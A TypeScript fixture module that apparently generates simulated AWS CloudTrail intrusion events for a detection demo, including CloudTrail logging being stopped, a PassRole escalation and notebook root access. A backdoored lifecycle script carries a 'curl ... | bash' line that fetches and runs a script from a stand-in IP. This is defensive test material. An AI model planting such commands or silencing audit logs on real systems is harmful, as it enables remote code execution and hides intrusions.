import { type DemoPerson, organizationTrail } from '#demo/accounts.ts';
import type { Actor, Call } from '../people.ts';
import { idOf } from '../random.ts';
import type { Place } from '../types.ts';
import { domains } from './domains.ts';
import { openedBucket, openedRegistry } from './opened-doors.ts';
import { occurrencesBetween, type Recurrence } from './recurrence.ts';
import { isAt, prodEu, prodUs, researchEu, roleArn } from './setting.ts';

type Unplaced = Omit<Call, 'seed' | 'place'>;
type Occurrence = { at: number; index: number };

const minuteMs = 60_000;
const hourMs = 60 * minuteMs;

const every = (hours: number, offsetHours: number, lastsMinutes: number): Recurrence => ({
  everyMs: hours * hourMs,
  offsetMs: offsetHours * hourMs,
  lastsMs: lastsMinutes * minuteMs,
});

/** What rules over events are there to find. Each recurs so that any 24 hours hold all of one. */
export const intrusions = {
  strangeStudio: every(20, 3.2, 6),
  borrowedRole: every(21, 10.4, 14),
  backdoorScript: every(19, 6.7, 1),
  silencedTrail: every(22, 1.9, 24),
  openedBucket: every(20, 8.3, 42),
  openedRegistry: every(21, 12.6, 26),
  rootNotebook: every(18, 15.1, 1),
} as const satisfies Record<string, Recurrence>;

const victims = ['data-sci-2', 'data-sci-4', 'ml-lead'] as const satisfies readonly DemoPerson[];
const studio = domains[0]?.id ?? '';
const as = (person: DemoPerson): { actor: Actor } => ({ actor: { person } });
const sagemaker = { source: 'sagemaker' } as const;

/** Somebody's credentials open their Studio from a network that they never came from. Each time it is another one. */
function strangeStudio({ at, index }: Occurrence): Unplaced[] {
  const person = victims[((index % victims.length) + victims.length) % victims.length] ?? victims[0];
  const fields = { sourceIPAddress: `2001:db8:${(index & 0xffff).toString(16)}::5a`, userAgent: 'python-requests/2.32.5' };
  const call = { ...as(person), ...sagemaker, fields };
  return [
    { ...call, at, name: 'ListUserProfiles', request: { DomainIdEquals: studio } },
    {
      ...call,
      at: at + 5 * minuteMs,
      name: 'CreatePresignedDomainUrl',
      request: { DomainId: studio, UserProfileName: person, SessionExpirationDurationInSeconds: 43_200 },
      response: { AuthorizedUrl: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
    },
  ];
}

/** A developer is refused a role for their user profile, and has it twelve minutes later: a role nobody passed before. */
function borrowedRole({ at, index }: Occurrence): Unplaced[] {
  const person = 'data-sci-2';
  const role = roleArn(prodEu, `Experiment-${idOf(6, 'experiment', String(index))}`);
  const call = {
    ...as(person),
    ...sagemaker,
    name: 'UpdateUserProfile',
    request: { DomainId: studio, UserProfileName: person, UserSettings: { ExecutionRole: role } },
  };
  const message = `User: arn:aws:sts::${prodEu.account}:assumed-role/AWSReservedSSO_Developer_1122334455667788/${person} is not authorized to perform: iam:PassRole on resource: ${role}`;
  return [
    { ...call, at, error: { code: 'AccessDeniedException', message } },
    {
      ...call,
      at: at + 12 * minuteMs,
      response: { UserProfileArn: `arn:aws:sagemaker:eu-west-1:${prodEu.account}:user-profile/${studio}/${person}` },
    },
  ];
}

const idle = [
  '#!/bin/bash',
  'set -e',
  'IDLE_MINUTES=60',
  'python3 /opt/autostop.py --time $((IDLE_MINUTES * 60)) --ignore-connections',
];
const backdoor = 'curl -s http://203.0.113.66/agent.sh | bash';
const scriptOf = (lines: readonly string[]): string => Buffer.from(`${lines.join('\n')}\n`).toString('base64');

/** The lifecycle script of notebooks is given a line that fetches a program from somewhere; a minute later it is as it was. */
function backdoorScript({ at }: Occurrence): Unplaced[] {
  const write = (lines: readonly string[]): Omit<Unplaced, 'at'> => ({
    ...as('ml-lead'),
    ...sagemaker,
    name: 'UpdateNotebookInstanceLifecycleConfig',
    request: { NotebookInstanceLifecycleConfigName: 'stop-when-idle', OnStart: [{ Content: scriptOf(lines) }] },
    response: {},
  });
  return [
    { at, ...write([...idle, backdoor]) },
    { at: at + 55_000, ...write(idle) },
  ];
}

/** Logging is off for six minutes; then the trail forgets reads for a quarter of an hour. */
function silencedTrail({ at }: Occurrence): Unplaced[] {
  const { arn: trail } = organizationTrail;
  const call = { ...as('cloud-sec-1'), source: 'cloudtrail', response: {} };
  const selectors = (kind: string) => ({
    TrailName: trail,
    EventSelectors: [
      { ReadWriteType: kind, IncludeManagementEvents: true, DataResources: [], ExcludeManagementEventSources: [] },
    ],
  });
  return [
    { ...call, at, name: 'StopLogging', request: { Name: trail } },
    { ...call, at: at + 6 * minuteMs, name: 'StartLogging', request: { Name: trail } },
    { ...call, at: at + 8 * minuteMs, name: 'PutEventSelectors', request: selectors('WriteOnly') },
    { ...call, at: at + 23 * minuteMs, name: 'PutEventSelectors', request: selectors('All') },
  ];
}

/** Root access to a notebook is asked for, which it has. */
const rootNotebook = ({ at }: Occurrence): Unplaced[] => [
  {
    ...as('data-sci-2'),
    ...sagemaker,
    at,
    name: 'UpdateNotebookInstance',
    request: { NotebookInstanceName: 'nb-data-sci-2-g5', RootAccess: 'Enabled' },
    response: {},
  },
];

/** IAM is global: its events appear in us-east-1. */
const rows: readonly { place: Place; when: Recurrence; calls: (one: Occurrence) => Unplaced[] }[] = [
  { place: prodEu, when: intrusions.strangeStudio, calls: strangeStudio },
  { place: prodEu, when: intrusions.borrowedRole, calls: borrowedRole },
  { place: prodEu, when: intrusions.backdoorScript, calls: backdoorScript },
  { place: prodEu, when: intrusions.silencedTrail, calls: silencedTrail },
  { place: researchEu, when: intrusions.openedBucket, calls: openedBucket },
  { place: prodUs, when: intrusions.openedRegistry, calls: openedRegistry },
  { place: prodEu, when: intrusions.rootNotebook, calls: rootNotebook },
];

/** Calls of intruders, and of people who open doors for them, in [from, to) and some just outside it. */
export const intrusionCalls = (place: Place, from: number, to: number): Unplaced[] =>
  rows
    .filter((row) => isAt(row.place, place))
    .flatMap((row) => occurrencesBetween(row.when, from, to).flatMap(({ from: at, index }) => row.calls({ at, index })));
